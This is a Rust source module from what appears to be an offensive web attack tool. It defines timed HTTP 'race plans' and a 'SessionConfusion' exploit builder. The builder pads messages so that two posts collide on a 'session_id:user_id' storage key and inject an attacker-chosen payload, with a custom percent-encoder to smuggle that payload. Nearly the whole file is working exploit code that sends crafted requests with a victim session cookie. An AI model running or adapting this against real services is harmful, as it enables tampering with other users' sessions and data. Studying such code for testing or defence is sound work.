//! Race plans: what to send, in which order, and how long to wait in between

use crate::error::{AttackError, AttackResult};
use crate::types::{HttpHeaders, HttpRequestData};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, HashMap};
use std::path::Path;

const ALLOWED_METHODS: [&str; 7] = ["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS"];

/// An ordered list of requests launched on a fixed schedule
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RacePlan {
    pub base_url: String,
    /// Cookies sent with every step unless the step overrides them
    #[serde(default)]
    pub cookies: BTreeMap<String, String>,
    /// How long to wait for outstanding steps after the last launch
    #[serde(default = "default_settle_ms")]
    pub settle_ms: u64,
    pub steps: Vec<RaceStep>,
}

fn default_settle_ms() -> u64 {
    10_000
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct RaceStep {
    /// Printed before the response body; defaults to the path
    #[serde(default)]
    pub label: Option<String>,
    #[serde(default = "default_method")]
    pub method: String,
    pub path: String,
    /// Sent as the request body with `Content-Type: application/json`
    #[serde(default)]
    pub json: Option<serde_json::Value>,
    /// Replaces the plan cookies for this step
    #[serde(default)]
    pub cookies: Option<BTreeMap<String, String>>,
    /// Pause between launching this step and launching the next
    #[serde(default)]
    pub delay_after_ms: u64,
}

fn default_method() -> String {
    "GET".to_string()
}

impl RacePlan {
    pub fn from_toml_str(source: &str) -> AttackResult<Self> {
        let plan: RacePlan = toml::from_str(source)?;
        plan.validate()?;
        Ok(plan)
    }

    pub fn from_file(path: &Path) -> AttackResult<Self> {
        let source = std::fs::read_to_string(path)?;
        Self::from_toml_str(&source)
    }

    pub fn validate(&self) -> AttackResult<()> {
        let base = url::Url::parse(&self.base_url)
            .map_err(|e| AttackError::validation("base_url", &e.to_string()))?;
        if !matches!(base.scheme(), "http" | "https") {
            return Err(AttackError::validation(
                "base_url",
                "only http and https are supported",
            ));
        }
        if self.steps.is_empty() {
            return Err(AttackError::invalid_plan("plan has no steps"));
        }
        for (index, step) in self.steps.iter().enumerate() {
            if !ALLOWED_METHODS.contains(&step.method.to_ascii_uppercase().as_str()) {
                return Err(AttackError::validation(
                    "method",
                    &format!("step {} uses unsupported method {}", index, step.method),
                ));
            }
            if !step.path.starts_with('/') {
                return Err(AttackError::validation(
                    "path",
                    &format!("step {} path must start with '/'", index),
                ));
            }
        }
        Ok(())
    }

    /// Resolve a step into the request an executor will send
    pub fn request_for(&self, step: &RaceStep) -> AttackResult<HttpRequestData> {
        let mut headers = HashMap::new();

        let cookies = step.cookies.as_ref().unwrap_or(&self.cookies);
        if !cookies.is_empty() {
            let header = cookies
                .iter()
                .map(|(name, value)| format!("{}={}", name, value))
                .collect::<Vec<_>>()
                .join("; ");
            headers.insert("Cookie".to_string(), header);
        }

        let body = match &step.json {
            Some(value) => {
                headers.insert("Content-Type".to_string(), "application/json".to_string());
                serde_json::to_vec(value)?
            }
            None => Vec::new(),
        };

        Ok(HttpRequestData {
            method: step.method.to_ascii_uppercase(),
            url: format!("{}{}", self.base_url.trim_end_matches('/'), step.path),
            headers: Some(HttpHeaders { headers }),
            body,
        })
    }
}

impl RaceStep {
    pub fn get(path: impl Into<String>) -> Self {
        Self {
            label: None,
            method: "GET".to_string(),
            path: path.into(),
            json: None,
            cookies: None,
            delay_after_ms: 0,
        }
    }

    pub fn post_json(path: impl Into<String>, json: serde_json::Value) -> Self {
        Self {
            method: "POST".to_string(),
            json: Some(json),
            ..Self::get(path)
        }
    }

    pub fn labelled(mut self, label: impl Into<String>) -> Self {
        self.label = Some(label.into());
        self
    }

    pub fn then_wait(mut self, delay_ms: u64) -> Self {
        self.delay_after_ms = delay_ms;
        self
    }

    pub fn label(&self) -> &str {
        self.label.as_deref().unwrap_or(&self.path)
    }
}

/// The two-session message race against a `session_id:user_id` keyed store.
///
/// A padded message is stored under the composite session `{sid}:{uid}`, then
/// the payload is posted to `{sid}` prefixed with `{uid}:` and the same
/// padding, so both land on the same storage key. The two reports are then
/// requested back to back.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SessionConfusion {
    pub session_id: String,
    pub user_id: String,
    /// Value of the `session` cookie
    pub cookie: String,
    pub payload: String,
    /// Percent-encode punctuation and whitespace in the payload first
    #[serde(default)]
    pub url_encode_payload: bool,
    #[serde(default = "SessionConfusion::default_block_len")]
    pub block_len: usize,
    #[serde(default = "SessionConfusion::default_short_delay")]
    pub prime_delay_ms: u64,
    #[serde(default = "SessionConfusion::default_inject_delay")]
    pub inject_delay_ms: u64,
    #[serde(default = "SessionConfusion::default_short_delay")]
    pub report_delay_ms: u64,
    #[serde(default = "default_settle_ms")]
    pub settle_ms: u64,
}

impl SessionConfusion {
    fn default_block_len() -> usize {
        128
    }

    fn default_short_delay() -> u64 {
        100
    }

    fn default_inject_delay() -> u64 {
        5_000
    }

    pub fn new(
        session_id: impl Into<String>,
        user_id: impl Into<String>,
        cookie: impl Into<String>,
        payload: impl Into<String>,
    ) -> Self {
        Self {
            session_id: session_id.into(),
            user_id: user_id.into(),
            cookie: cookie.into(),
            payload: payload.into(),
            url_encode_payload: false,
            block_len: Self::default_block_len(),
            prime_delay_ms: Self::default_short_delay(),
            inject_delay_ms: Self::default_inject_delay(),
            report_delay_ms: Self::default_short_delay(),
            settle_ms: default_settle_ms(),
        }
    }

    /// `A` repeated to fill the block after the `{user_id}:` prefix, counted
    /// in characters
    pub fn padding(&self) -> String {
        let prefix_len = self.user_id.chars().count() + 1;
        "A".repeat(self.block_len.saturating_sub(prefix_len))
    }

    pub fn build(&self, base_url: impl Into<String>) -> RacePlan {
        let composite = format!("{}:{}", self.session_id, self.user_id);
        let padding = self.padding();
        let payload = if self.url_encode_payload {
            custom_url_encode(&self.payload)
        } else {
            self.payload.clone()
        };

        let steps = vec![
            RaceStep::post_json(
                format!("/sessions/{}/messages", composite),
                serde_json::json!({ "content": padding }),
            )
            .labelled(composite.clone())
            .then_wait(self.prime_delay_ms),
            RaceStep::post_json(
                format!("/sessions/{}/messages", self.session_id),
                serde_json::json!({
                    "content": format!("{}:{} {}", self.user_id, padding, payload)
                }),
            )
            .labelled(self.session_id.clone())
            .then_wait(self.inject_delay_ms),
            RaceStep::get(format!("/sessions/{}/report", composite))
                .labelled(composite.clone())
                .then_wait(self.report_delay_ms),
            RaceStep::get(format!("/sessions/{}/report", self.session_id))
                .labelled(self.session_id.clone()),
        ];

        let mut cookies = BTreeMap::new();
        cookies.insert("session".to_string(), self.cookie.clone());

        RacePlan {
            base_url: base_url.into(),
            cookies,
            settle_ms: self.settle_ms,
            steps,
        }
    }
}

/// Drop newlines, then percent-encode every ASCII punctuation and whitespace
/// character as `%xx` (lowercase hex). A `\x01` already in the input also
/// becomes a bare `%`. Everything else is left as is.
pub fn custom_url_encode(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars().filter(|&c| c != '\n') {
        if c.is_ascii_punctuation() || is_encoded_whitespace(c) {
            out.push_str(&format!("%{:02x}", c as u32));
        } else if c == '\x01' {
            out.push('%');
        } else {
            out.push(c);
        }
    }
    out
}

// Space, \t, \r, vertical tab, form feed (newline is dropped earlier).
fn is_encoded_whitespace(c: char) -> bool {
    matches!(c, ' ' | '\t' | '\r' | '\x0b' | '\x0c')
}
